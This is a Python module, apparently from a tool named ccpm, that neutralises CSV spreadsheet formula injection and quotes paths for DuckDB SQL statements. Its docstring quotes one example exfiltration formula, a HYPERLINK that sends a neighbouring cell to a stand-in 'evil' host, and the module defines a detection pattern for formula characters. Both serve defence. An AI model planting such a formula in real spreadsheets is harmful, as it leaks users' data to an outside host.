"""Escaping for the formats ccpm writes that are not documents: spreadsheet cells and SQL.

Every input string is hostile: agent names, customer ids, free text and file names come
from exports ccpm does not control, and they end up in CSV files that people open in a
spreadsheet, and in SQL statements that DuckDB runs.

Spreadsheet cells (OWASP "CSV Injection")
    A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or
    a line feed is taken as a formula by Excel, LibreOffice and Google Sheets
    (``=HYPERLINK("http://evil/?"&A1, "click")`` sends the neighbouring cell away).
    :func:`neutralize_cell` puts a single quote in front of such text, which every
    spreadsheet shows as text, as OWASP recommends. Text that already starts with quotes
    followed by one of these characters gets one more quote, so the change can be undone
    exactly (:func:`restore_cell`) when ccpm reads its own CSV back (``gaming_flags.csv``
    given to ``ccpm compare --flags``).

    Choices:

    * Only text is changed. Numbers (``-5``, ``-0.25`` as int/float columns) are written
      as numbers: a spreadsheet parses them as numbers and nothing executes.
    * Text that is exactly a plain decimal number (``"-5"``, ``"+12.5"``, ``"-1e3"``,
      as an agent id column typed as text may hold) is also left as it is: a spreadsheet
      reads it as the number, never as a formula, and quoting it would give the id a
      different value in every file read back (outputs would no longer join). Anything
      else that starts with a sign (``"-5+A1"``, ``"+1 555 0100"``, ``"-cmd"``) is
      quoted.
    * Column names are neutralised like cells (a hostile header of a raw export reaches
      ``quarantine.csv``).

SQL
    Paths and values go to DuckDB as parameters (``con.execute("... read_parquet(?)",
    [path])``). Where a statement cannot take a parameter (``COPY ... TO 'file'``, a
    list of files in a view definition), :func:`sql_quote_path` writes the path as a SQL
    string literal with its quotes doubled, the only escaping a SQL string literal has.

References
----------
.. [1] OWASP, "CSV Injection". https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterable
from pathlib import Path

import numpy as np
import pandas as pd

__all__ = [
    "FORMULA_CHARS",
    "neutralize_cell",
    "restore_cell",
    "neutralize_frame",
    "restore_series",
    "safe_csv",
    "sql_string",
    "sql_quote_path",
    "sql_path_list",
]

#: First characters that make a spreadsheet read a cell as a formula (OWASP, plus LF).
FORMULA_CHARS = "=+-@\t\r\n"

_DANGER = re.compile(r"'*[=+\-@\t\r\n]", re.S)
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralize_cell(value):
    """``value`` made safe for a spreadsheet cell: text that a spreadsheet would run as a
    formula gets a leading ``'``; anything else is returned unchanged.

    Parameters
    ----------
    value : object
        A cell. Only ``str`` is ever changed; numbers, missing values and other objects
        come back as they are.

    Returns
    -------
    object
        ``"'" + value`` when ``value`` is text starting (after any quotes) with one of
        :data:`FORMULA_CHARS` and is not a plain decimal number; else ``value``.

    Examples
    --------
    >>> neutralize_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> neutralize_cell("-5"), neutralize_cell(-5), neutralize_cell("-5+A1")
    ('-5', -5, "'-5+A1")

    References
    ----------
    .. [1] OWASP, "CSV Injection". https://owasp.org/www-community/attacks/CSV_Injection
    """
    if isinstance(value, str) and _DANGER.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def restore_cell(value):
    """Undo :func:`neutralize_cell` (for ccpm reading back a CSV it wrote)."""
    if isinstance(value, str) and value.startswith("'") and _DANGER.match(value[1:]) \
            and not _NUMBER.fullmatch(value[1:]):
        return value[1:]
    return value


def _text_mask(s: pd.Series) -> pd.Series:
    """True where a cell of ``s`` is text that :func:`neutralize_cell` would change.

    An object column may hold no text at all (numbers only, all missing) or text mixed
    with numbers: only its text cells are matched (a text column's test is vectorised).
    """
    hit = np.zeros(len(s), dtype=bool)
    if _is_text(s):
        if isinstance(s.dtype, pd.StringDtype) or \
                pd.api.types.infer_dtype(s, skipna=True) == "string":
            text = s.notna().to_numpy(dtype=bool)
        else:
            text = s.map(lambda v: isinstance(v, str)).to_numpy(dtype=bool)
        if text.any():
            st = s[text].astype(str).str
            h = st.match(_DANGER.pattern, na=False).to_numpy(dtype=bool)
            if h.any():
                h = h & ~st.fullmatch(_NUMBER.pattern, na=False).to_numpy(dtype=bool)
            hit[text] = h
    return pd.Series(hit, index=s.index)


def _is_text(s: pd.Series) -> bool:
    return s.dtype == object or isinstance(s.dtype, pd.StringDtype)


def neutralize_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names pass :func:`neutralize_cell`
    (numeric columns untouched; categorical columns are written as their text)."""
    out = df.copy(deep=False)
    changed = {}
    for i in range(df.shape[1]):
        s = df.iloc[:, i]
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
            if not _text_mask(s).any():
                continue
        mask = _text_mask(s)
        if mask.any():
            s = s.astype(object).copy()
            s[mask] = "'" + s[mask].astype(str)
            changed[i] = s
    for i, s in changed.items():
        out.isetitem(i, s)
    out.columns = [neutralize_cell(c) if isinstance(c, str) else c for c in df.columns]
    if out.index.dtype == object:
        out.index = pd.Index([neutralize_cell(v) for v in out.index], name=out.index.name)
    return out


def restore_series(s: pd.Series) -> pd.Series:
    """Undo :func:`neutralize_cell` on a column read back from a CSV ccpm wrote."""
    if not _is_text(s):
        return s
    is_str = s.map(lambda v: isinstance(v, str)).astype(bool)
    if not is_str.any():  # an object column of booleans (True/False with gaps), numbers
        return s
    hit = is_str & s.where(is_str, "").astype(str).str.match(r"'+[=+\-@\t\r\n]", na=False)
    if not hit.any():
        return s
    s = s.copy()
    s[hit] = s[hit].map(restore_cell)
    return s


def safe_csv(df: pd.DataFrame, path, **kw):
    """``df.to_csv(path, **kw)`` with every text cell and column name neutralised for
    spreadsheets (:func:`neutralize_frame`). Returns what ``to_csv`` returns."""
    return neutralize_frame(df).to_csv(path, **kw)


def sql_string(text: str) -> str:
    """``text`` as a SQL string literal: in single quotes, each quote doubled.

    Examples
    --------
    >>> sql_string("it's")
    "'it''s'"
    """
    return "'" + text.replace("'", "''") + "'"


def sql_quote_path(path: str | os.PathLike) -> str:
    """``path`` as a SQL string literal (``'...'``, quotes doubled), for the statements
    that take no parameter (``COPY ... TO``).

    Examples
    --------
    >>> sql_quote_path("/data/o'brien/calls.parquet")
    "'/data/o''brien/calls.parquet'"
    """
    s = os.fspath(path)
    if "\x00" in s:
        raise ValueError("a path cannot contain a NUL character")
    return sql_string(s)


def sql_path_list(paths: Iterable[str | os.PathLike | Path]) -> str:
    """A SQL list literal of paths (``['a', 'b']``), each quoted by :func:`sql_quote_path`."""
    return "[" + ", ".join(sql_quote_path(p) for p in paths) + "]"
